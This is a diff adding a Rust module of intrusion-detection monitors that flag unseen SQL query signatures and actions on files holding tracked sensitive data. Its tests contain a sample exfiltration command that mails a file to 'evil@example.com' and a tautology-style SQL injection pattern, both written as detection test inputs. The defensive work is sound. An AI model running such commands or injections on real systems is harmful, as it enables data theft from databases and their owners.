@@ -1,0 +1,278 @@
+//! §VII mitigations, implemented as composable monitors on top of the base
+//! Detection Engine.
+//!
+//! The paper names two evasions its core system cannot catch and sketches
+//! the fixes; both are built here:
+//!
+//! 1. **Selectivity mimicry** — an attacker who knows only call sequences
+//!    are profiled can issue a *different query with similar selectivity*
+//!    and leave the call sequence unchanged. Fix: "recording queries
+//!    signatures along with library calls". [`QuerySignatureMonitor`]
+//!    learns the set of query signatures (statement skeletons, see
+//!    `adprom_db::query_signature`) issued during training and flags any
+//!    run-time submission whose signature was never seen.
+//!
+//! 2. **Indirect exfiltration through files** — "storing the TD to a file
+//!    and then send\[ing\] the file over a network". Fix: "when a call like
+//!    fprintf, write, or fwrite is issued and the data flow analysis
+//!    indicates that the call stores TD, the file is labeled. Then,
+//!    actions on such files are monitored". [`FileLabelMonitor`] labels
+//!    every file a `*_Q`-labeled write touches and flags subsequent
+//!    `system`/`remove`/read actions that reference a labeled file.
+//!
+//! Both monitors consume the *extended* event stream (the interpreter run
+//! with [`ExecConfig::extended_events`](adprom_trace::ExecConfig) set), so
+//! the baseline collector's "names only" cost model is untouched.
+
+use adprom_trace::CallEvent;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
+
+/// An alert raised by an extension monitor.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ExtensionAlert {
+    /// Which monitor fired.
+    pub kind: ExtensionKind,
+    /// The offending call name.
+    pub call: String,
+    /// The issuing function.
+    pub caller: String,
+    /// What was unexpected (the unseen signature / the labeled file).
+    pub subject: String,
+}
+
+/// Extension monitor kinds.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum ExtensionKind {
+    /// A query whose signature was never seen in training.
+    UnknownQuerySignature,
+    /// An action on a file that holds labeled (TD) data.
+    LabeledFileAction,
+}
+
+/// Learns the training-time query-signature catalogue and flags unseen
+/// signatures at detection time.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct QuerySignatureMonitor {
+    known: BTreeSet<String>,
+}
+
+impl QuerySignatureMonitor {
+    /// Learns every query signature present in the training traces.
+    pub fn learn(traces: &[Vec<CallEvent>]) -> QuerySignatureMonitor {
+        let mut known = BTreeSet::new();
+        for trace in traces {
+            for e in trace {
+                if e.call.is_query_submission() {
+                    if let Some(sig) = &e.detail {
+                        known.insert(sig.clone());
+                    }
+                }
+            }
+        }
+        QuerySignatureMonitor { known }
+    }
+
+    /// Number of distinct signatures learned.
+    pub fn len(&self) -> usize {
+        self.known.len()
+    }
+
+    /// True when no signatures were learned.
+    pub fn is_empty(&self) -> bool {
+        self.known.is_empty()
+    }
+
+    /// True if the signature was seen in training.
+    pub fn knows(&self, signature: &str) -> bool {
+        self.known.contains(signature)
+    }
+
+    /// Checks a single event.
+    pub fn check(&self, event: &CallEvent) -> Option<ExtensionAlert> {
+        if !event.call.is_query_submission() {
+            return None;
+        }
+        let sig = event.detail.as_ref()?;
+        if self.knows(sig) {
+            None
+        } else {
+            Some(ExtensionAlert {
+                kind: ExtensionKind::UnknownQuerySignature,
+                call: event.name.clone(),
+                caller: event.caller.clone(),
+                subject: sig.clone(),
+            })
+        }
+    }
+
+    /// Scans a whole trace.
+    pub fn scan(&self, trace: &[CallEvent]) -> Vec<ExtensionAlert> {
+        trace.iter().filter_map(|e| self.check(e)).collect()
+    }
+}
+
+/// Tracks files that received labeled (TD) data and flags later actions on
+/// them: shelling out (`system` with the path on the command line),
+/// re-reading, or deleting the evidence.
+#[derive(Debug, Clone, Default)]
+pub struct FileLabelMonitor {
+    labeled: BTreeSet<String>,
+    alerts: Vec<ExtensionAlert>,
+}
+
+impl FileLabelMonitor {
+    /// Creates an empty monitor.
+    pub fn new() -> FileLabelMonitor {
+        FileLabelMonitor::default()
+    }
+
+    /// Files currently labeled as holding the TD.
+    pub fn labeled_files(&self) -> impl Iterator<Item = &str> {
+        self.labeled.iter().map(String::as_str)
+    }
+
+    /// Alerts raised so far.
+    pub fn alerts(&self) -> &[ExtensionAlert] {
+        &self.alerts
+    }
+
+    /// Feeds one event through the monitor.
+    pub fn observe(&mut self, event: &CallEvent) {
+        let is_labeled_write = event.call.is_output_sink() && event.name.contains("_Q");
+        if is_labeled_write {
+            if let Some(path) = &event.detail {
+                self.labeled.insert(path.clone());
+            }
+            return;
+        }
+        // Actions referencing a labeled file.
+        let Some(detail) = &event.detail else {
+            return;
+        };
+        let touches_labeled = self
+            .labeled
+            .iter()
+            .any(|path| detail == path || detail.contains(path.as_str()));
+        if !touches_labeled {
+            return;
+        }
+        let suspicious = matches!(
+            event.call,
+            adprom_lang::LibCall::System
+                | adprom_lang::LibCall::Remove
+                | adprom_lang::LibCall::Fread
+                | adprom_lang::LibCall::Fgets
+        );
+        if suspicious {
+            self.alerts.push(ExtensionAlert {
+                kind: ExtensionKind::LabeledFileAction,
+                call: event.name.clone(),
+                caller: event.caller.clone(),
+                subject: detail.clone(),
+            });
+        }
+    }
+
+    /// Scans a whole trace (stateful: labels persist across the scan).
+    pub fn scan(&mut self, trace: &[CallEvent]) -> usize {
+        let before = self.alerts.len();
+        for e in trace {
+            self.observe(e);
+        }
+        self.alerts.len() - before
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use adprom_lang::{CallSiteId, LibCall};
+
+    fn event(name: &str, call: LibCall, detail: Option<&str>) -> CallEvent {
+        CallEvent {
+            name: name.to_string(),
+            call,
+            caller: "main".into(),
+            site: CallSiteId(0),
+            detail: detail.map(str::to_string),
+        }
+    }
+
+    #[test]
+    fn unknown_signature_is_flagged() {
+        let training = vec![vec![event(
+            "PQexec",
+            LibCall::PQexec,
+            Some("SELECT * FROM clients WHERE id=?"),
+        )]];
+        let monitor = QuerySignatureMonitor::learn(&training);
+        assert_eq!(monitor.len(), 1);
+
+        // Same skeleton, different constant: known.
+        assert!(monitor
+            .check(&event(
+                "PQexec",
+                LibCall::PQexec,
+                Some("SELECT * FROM clients WHERE id=?")
+            ))
+            .is_none());
+        // Structurally different query (the mimicry evasion): flagged.
+        let alert = monitor
+            .check(&event(
+                "PQexec",
+                LibCall::PQexec,
+                Some("SELECT * FROM clients WHERE (id=? OR ?=?)"),
+            ))
+            .expect("unseen signature flagged");
+        assert_eq!(alert.kind, ExtensionKind::UnknownQuerySignature);
+    }
+
+    #[test]
+    fn non_query_events_are_ignored() {
+        let monitor = QuerySignatureMonitor::default();
+        assert!(monitor
+            .check(&event("printf", LibCall::Printf, Some("whatever")))
+            .is_none());
+    }
+
+    #[test]
+    fn labeled_file_then_system_is_flagged() {
+        let mut monitor = FileLabelMonitor::new();
+        // TD written to a file through a labeled fprintf.
+        monitor.observe(&event(
+            "fprintf_Q12",
+            LibCall::Fprintf,
+            Some("statement.txt"),
+        ));
+        assert_eq!(monitor.labeled_files().count(), 1);
+        // The exfiltration step: mail the file out.
+        monitor.observe(&event(
+            "system",
+            LibCall::System,
+            Some("mail evil@example.com < statement.txt"),
+        ));
+        assert_eq!(monitor.alerts().len(), 1);
+        assert_eq!(monitor.alerts()[0].kind, ExtensionKind::LabeledFileAction);
+    }
+
+    #[test]
+    fn unlabeled_file_actions_pass() {
+        let mut monitor = FileLabelMonitor::new();
+        monitor.observe(&event("fprintf", LibCall::Fprintf, Some("notes.txt")));
+        monitor.observe(&event(
+            "system",
+            LibCall::System,
+            Some("mail evil@example.com < notes.txt"),
+        ));
+        assert!(monitor.alerts().is_empty());
+    }
+
+    #[test]
+    fn deleting_the_evidence_is_flagged() {
+        let mut monitor = FileLabelMonitor::new();
+        monitor.observe(&event("fwrite_Q3", LibCall::Fwrite, Some("exfil.dat")));
+        monitor.observe(&event("remove", LibCall::Remove, Some("exfil.dat")));
+        assert_eq!(monitor.alerts().len(), 1);
+    }
+}
